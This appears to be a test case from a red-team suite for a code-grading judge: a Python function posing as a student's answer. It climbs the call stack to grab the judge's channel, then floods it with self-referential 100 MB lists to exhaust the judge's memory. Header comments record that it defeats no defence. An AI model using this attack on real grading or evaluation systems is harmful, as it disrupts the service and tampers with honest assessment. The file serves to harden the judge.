# Tries: A function that tests call calls the judge back with lists that contain themselves and 100 MB each: the
#   judge remembers them for as long as something refers to them, that is for ever. Here at most 5 GB.
# Trace: memory of the judge's process over 1 GiB (0.2 GiB otherwise)
# Wins against: nothing
# %% cell: q2_beale_f
import sys


def peer():
    """Return the student's end of the conversation with the judge."""
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "channel"):
        frame = frame.f_back
    return frame.f_locals["self"]


def beale_f(x, y):
    channel, data = peer().channel, bytes(100_000_000)
    for number in range(50):
        key = -1000 - 2 * number
        array = ["S", key - 1, ["A", "|u1", [len(data)], 0]]
        loop = ["S", key, ["L", [["R", key], array]]]
        channel.send({"op": "callback", "args": ["T", [loop]]}, [data])
        channel.receive()
    return x
